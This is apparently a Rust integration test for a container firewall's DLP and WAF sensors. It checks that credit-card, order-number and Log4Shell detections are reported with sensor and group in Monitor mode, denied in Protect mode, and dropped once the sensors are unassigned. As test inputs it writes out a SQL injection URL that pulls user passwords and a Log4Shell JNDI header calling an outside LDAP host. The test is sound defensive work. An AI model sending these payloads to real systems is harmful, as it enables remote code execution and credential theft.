//! DLP and WAF sensors on live messages: what a group uses is told with sensor and group, over IPv4 and IPv6, stopped in
//! Protect, and no more once the group uses it no more.

use std::net::IpAddr;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use nv_lab::{Output, Pod};
use nv_scene::{Scene, WEB_GROUP, client_pod};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

const CARD: &str = "DLP.sensor.creditcard.rule.visa";
const SHOP: &str = "DLP.sensor.shop.rule.order";
const LOOKUP: &str = "WAF.sensor.log4shell.rule.log4shell";
/// An attack that is told without any sensor.
const INJECTION: &str = "/items?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20";
const INJECTED: &str = "SQL.Injection";

fn address(pod: &Pod, six: bool) -> Result<IpAddr> {
    if six { pod.ipv6() } else { pod.ipv4() }.context("the pod has no such address")
}

fn text<'a>(value: &'a Value, key: &str) -> &'a str {
    value.get(key).and_then(Value::as_str).unwrap_or_default()
}

/// Asks the web server.
async fn get(scene: &Scene, client: &Pod, six: bool, path: &str, header: Option<&str>) -> Result<Output> {
    let server = address(&scene.web, six)?;
    let host = if six { format!("[{server}]") } else { server.to_string() };
    let url = format!("http://{host}{path}");
    let mut command = vec!["/bin/timeout", "5", "/bin/wget", "-q", "-O", "-"];
    command.extend(header.iter().flat_map(|header| ["--header", header]));
    command.push(&url);
    Ok(scene.lab.exec(client.container(), &command).await?)
}

/// What every sensor of this test finds, once in each message.
async fn offend(scene: &Scene, client: &Pod, six: bool) -> Result<[Output; 3]> {
    let lookup = "X-Api-Version: %24%7bjndi:ldap://198.51.100.7/a%7d";
    Ok([
        get(scene, client, six, "/cards.txt", None).await?,
        get(scene, client, six, "/index.html?note=ORDER%2d%347115", None).await?,
        get(scene, client, six, "/index.html", Some(lookup)).await?,
    ])
}

/// What is told of this client.
fn of<'a>(answer: &'a Value, client: &Pod) -> Vec<&'a Value> {
    let threats = answer.get("threats").and_then(Value::as_array).into_iter().flatten();
    let own = client.container().id.as_str();
    threats.filter(|record| text(record, "client_workload_id") == own).collect()
}

/// Waits for a record of this name about this client at this server that was dealt with so.
async fn wait_told(scene: &Scene, client: &Pod, name: &str, action: &str, server: IpAddr) -> Result<Value> {
    let is_it = |record: &&&Value| {
        text(record, "name") == name
            && text(record, "action") == action
            && text(record, "server_ip") == server.to_string()
    };
    scene
        .api
        .wait_for("/v1/log/threat", Duration::from_secs(15), |answer| {
            of(answer, client).iter().find(is_it).map(|record| (*record).clone())
        })
        .await
        .map(|(record, _)| record)
        .with_context(|| format!("{name} at {server} is not told with {action}"))
}

/// Nothing of what this client has done until now is told by a sensor: an attack that comes after it is told.
async fn no_sensor_tells(scene: &Scene, client: &Pod, action: &str) -> Result<()> {
    drop(get(scene, client, false, INJECTION, None).await?);
    wait_told(scene, client, INJECTED, action, address(&scene.web, false)?).await?;
    let answer = scene.api.get("/v1/log/threat").await?;
    let sensed = of(&answer, client).into_iter().find(|record| !text(record, "sensor").is_empty());
    ensure!(sensed.is_none(), "a sensor that nobody uses tells: {sensed:?}");
    Ok(())
}

async fn use_sensors(scene: &Scene, kind: &str, sensors: &Value) -> Result<()> {
    let config = json!({"config": {"name": WEB_GROUP, "status": true, "replace": sensors}});
    scene.api.patch(&format!("/v1/{kind}/group/{WEB_GROUP}"), &config).await?;
    scene.wait_inspected().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_groups_sensors_find_is_told_with_sensor_and_group_until_it_uses_them_no_more() -> Result<()> {
    let scene = Scene::start("sensors").await?;
    let number = "4111 1111 1111 1111";
    let page = format!("echo 'paid with {number} yesterday' > /www/cards.txt");
    scene.lab.exec(scene.web.container(), &["/bin/sh", "-c", &page]).await?;
    scene.operate().await?;
    scene.wait_learned().await?;
    let sensor = json!({"config": {"name": "sensor.shop", "rules": [{"name": "rule.order", "patterns":
        [{"key": "pattern", "op": "regex", "value": "ORDER-[0-9]{5}", "context": "url"}]}]}});
    let (status, answer) = scene.api.call(Method::POST, "/v1/dlp/sensor", Some(&sensor)).await?;
    ensure!(status == StatusCode::OK, "{answer}");

    // Nobody uses a sensor yet.
    let client = &scene.client;
    offend(&scene, client, false).await?;
    no_sensor_tells(&scene, client, "alert").await?;
    let action = |name: &str| json!({"name": name, "action": "deny"});
    use_sensors(&scene, "dlp", &json!([action("sensor.creditcard"), action("sensor.shop")])).await?;
    use_sensors(&scene, "waf", &json!([action("sensor.log4shell")])).await?;

    scene.set_network_mode("Monitor").await?;
    // The inspector makes them ready beside its work.
    let begin = Instant::now();
    let ready = |answer: &Value| {
        let told = of(answer, client);
        [CARD, SHOP, LOOKUP].iter().all(|name| told.iter().any(|record| text(record, "name") == *name))
    };
    while !ready(&scene.api.get("/v1/log/threat").await?) {
        ensure!(begin.elapsed() < Duration::from_secs(180), "sensors are not made ready");
        offend(&scene, client, false).await?;
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    for six in [false, true] {
        let server = address(&scene.web, six)?;
        let [cards, ..] = offend(&scene, client, six).await?;
        ensure!(cards.stdout.contains(number), "in Monitor it arrives: {}{}", cards.stdout, cards.stderr);
        for (name, sensor, ids, target) in [
            (CARD, "sensor.creditcard", 30_000..40_000, "client"),
            (SHOP, "sensor.shop", 20_000..30_000, "server"),
            (LOOKUP, "sensor.log4shell", 40_000..50_000, "server"),
        ] {
            let record = wait_told(&scene, client, name, "alert", server).await?;
            ensure!(text(&record, "sensor") == sensor && text(&record, "group") == WEB_GROUP, "{record}");
            let id = record.get("threat_id").and_then(Value::as_u64).unwrap_or_default();
            ensure!(ids.contains(&id) && text(&record, "target") == target, "{record}");
            ensure!(text(&record, "application") == "HTTP", "{record}");
            ensure!(text(&record, "server_workload_service") == WEB_GROUP, "{record}");
        }
    }

    scene.set_network_mode("Protect").await?;
    scene.wait_queues(3).await?;
    for six in [false, true] {
        let server = address(&scene.web, six)?;
        let ordinary = get(&scene, client, six, "/index.html", None).await?;
        ensure!(ordinary.exit_code == 0 && ordinary.stdout.contains("shop"), "{}", ordinary.stderr);
        for output in &offend(&scene, client, six).await? {
            ensure!(
                output.exit_code != 0 && !output.stdout.contains(number),
                "it arrives: {}",
                output.stdout
            );
        }
        for name in [CARD, SHOP, LOOKUP] {
            wait_told(&scene, client, name, "deny", server).await?;
        }
    }

    use_sensors(&scene, "dlp", &json!([])).await?;
    use_sensors(&scene, "waf", &json!([])).await?;
    let (status, answer) = scene.api.call(Method::DELETE, "/v1/dlp/sensor/sensor.shop", None).await?;
    ensure!(status == StatusCode::OK, "{answer}");
    // Another client, as repeats of a minute by one are one record.
    let client = &scene.lab.run_pod(&client_pod(1, &[])).await?;
    scene.wait_queues(4).await?;
    let begin = Instant::now();
    while !get(&scene, &scene.client, false, "/cards.txt", None).await?.stdout.contains(number) {
        ensure!(begin.elapsed() < Duration::from_secs(60), "what no sensor looks for any more is stopped");
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let [cards, ..] = offend(&scene, client, false).await?;
    ensure!(cards.stdout.contains(number), "nothing is stopped any more: {}", cards.stderr);
    no_sensor_tells(&scene, client, "deny").await?;
    scene.stop().await
}
